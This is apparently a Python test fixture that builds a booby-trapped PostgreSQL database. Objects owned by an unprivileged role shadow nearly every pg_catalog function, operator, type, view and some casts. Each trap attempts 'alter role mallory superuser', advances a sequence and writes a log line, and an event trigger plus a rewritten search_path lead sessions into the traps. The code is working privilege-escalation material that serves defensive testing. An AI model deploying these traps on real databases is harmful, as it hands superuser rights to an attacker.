"""A database in which every name that a statement could mean is a trap of somebody without rights.

A trap that is sprung makes its owner a superuser where it can, advances a sequence, which no
rollback undoes, and says so in the server's log, which a session that only reads does as well.
"""

from collections.abc import Callable

OWNER = "mallory"
SPRUNG = "TRAPPED"

_MAKE = """
set search_path = pg_catalog, pg_temp;
set client_min_messages = error;
do $$ begin create role mallory login; exception when duplicate_object then null; end $$;
create schema evil authorization mallory;
grant all on schema public to mallory;
create sequence evil.mark;
alter sequence evil.mark owner to mallory;
create function evil.trap(what text) returns boolean language plpgsql as $trap$
begin
    raise log 'TRAPPED %', what;
    begin
        perform pg_catalog.nextval('evil.mark');
        execute 'alter role mallory superuser';
    exception when others then null;
    end;
    return true;
end $trap$;
do $$
declare
    place text;
    one record;
    body text := ' language plpgsql as'
                 ' $f$ begin perform evil.trap(%L); raise exception %L; end $f$';
begin
    foreach place in array array['evil', 'public'] loop
        for one in
            select p.proname, pg_get_function_arguments(p.oid) given,
                   pg_get_function_result(p.oid) result
              from pg_proc p where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind = 'f'
        loop
            begin
                execute format('create function %I.%I(%s) returns %s', place, one.proname,
                               regexp_replace(one.given, ' DEFAULT [^,]*', '', 'g'), one.result)
                     || format(body, one.proname, 'trap ' || one.proname);
            exception when others then null;
            end;
        end loop;
        for one in
            select o.oid, o.oprname, o.oprleft, o.oprright from pg_operator o
             where o.oprnamespace = 'pg_catalog'::regnamespace and o.oprright <> 0
        loop
            begin
                execute format('create function %I.op_%s(%s) returns boolean', place, one.oid,
                               concat_ws(', ', nullif(format_type(one.oprleft, null), '-'),
                                         format_type(one.oprright, null)))
                     || format(body, 'operator ' || one.oprname, 'trap');
                execute format('create operator %I.%s (function = %I.op_%s, rightarg = %s%s)',
                               place, one.oprname, place, one.oid,
                               format_type(one.oprright, null),
                               case when one.oprleft = 0 then ''
                                    else ', leftarg = ' || format_type(one.oprleft, null) end);
            exception when others then null;
            end;
        end loop;
        for one in
            select t.typname from pg_type t
             where t.typnamespace = 'pg_catalog'::regnamespace and t.typtype = 'b'
               and t.typname !~ '^_'
        loop
            begin
                execute format('create domain %I.%I as pg_catalog.%I check (evil.trap(%L))', place,
                               one.typname, one.typname, 'type ' || one.typname);
            exception when others then null;
            end;
        end loop;
        for one in
            select c.relname from pg_class c
             where c.relnamespace = 'pg_catalog'::regnamespace and c.relkind in ('r', 'v')
               and not exists (select from pg_type t where t.typname = c.relname
                                                       and t.typnamespace = place::regnamespace)
        loop
            begin
                execute format(
                    'create view %I.%I as select * from pg_catalog.%I where evil.trap(%L)',
                    place, one.relname, one.relname, 'relation ' || one.relname);
            exception when others then null;
            end;
        end loop;
        execute format('create collation %I."C" (provider = icu, locale = %L)', place, 'de');
    end loop;
end $$;
create aggregate evil.count(*) (sfunc = evil.int8inc, stype = int8, initcond = '0');
create collation evil.aged (provider = icu, locale = 'de');
update pg_collation set collversion = '0.1' where collname = 'aged';
create function evil.on_ddl() returns event_trigger language plpgsql as $trap$
begin perform evil.trap('event trigger'); end $trap$;
do $$
declare one record;
begin
    for one in select p.oid::regprocedure name from pg_proc p
                where p.pronamespace in ('evil'::regnamespace, 'public'::regnamespace)
                  and p.prokind = 'f'
    loop
        execute format('alter function %s owner to mallory', one.name);
    end loop;
end $$;
"""

# Between two types of the system only a superuser makes them; engines cast too (lsn::text).
_CASTS = """
set search_path = pg_catalog, pg_temp;
do $$
declare
    one record;
    body text := ' language plpgsql as'
                 ' $f$ begin perform evil.trap(%L); raise exception %L; end $f$';
begin
    for one in select * from (values ('text', 'pg_lsn'), ('pg_lsn', 'text'), ('text', 'int4'),
                                     ('text', 'interval'), ('text', 'oid'), ('xid', 'text'))
                             as casts(source, target)
    loop
        begin
            execute format('create function evil.cast_%s_%s(pg_catalog.%I)'
                           ' returns pg_catalog.%I',
                           one.source, one.target, one.source, one.target)
                 || format(body, 'cast', 'trap');
            execute format('create cast (pg_catalog.%I as pg_catalog.%I)'
                           ' with function evil.cast_%s_%s as implicit',
                           one.source, one.target, one.source, one.target);
        exception when others then null;
        end;
    end loop;
end $$;
"""

_ARM = """
create event trigger evil on ddl_command_start execute function evil.on_ddl();
alter event trigger evil enable always;
"""

_UNSPRUNG = """
set search_path = pg_catalog, pg_temp;
set role none;
select (not rolsuper) and not (select is_called from evil.mark) from pg_authid
 where rolname = 'mallory'
"""

Psql = Callable[..., str]


def lay(psql: Psql, database: str, *, casts: bool = True) -> None:
    """Make the traps in a database, and lead every session there into them."""
    psql(_MAKE, database=database, timeout_s=120)
    if casts:
        psql(_CASTS, database=database)
    psql(_ARM, database=database)
    psql(
        f"set search_path = pg_catalog, pg_temp;"
        f" alter database {database} set search_path = evil, public, pg_catalog;"
        f" alter role postgres in database {database} set search_path = evil, public, pg_catalog",
        database="template1",
    )


def are_unsprung(psql: Psql, database: str, log: str) -> bool:
    """Return whether no trap of this database was sprung, by its owner's rights, marks and log."""
    return psql(_UNSPRUNG, database=database) == "t" and SPRUNG not in log
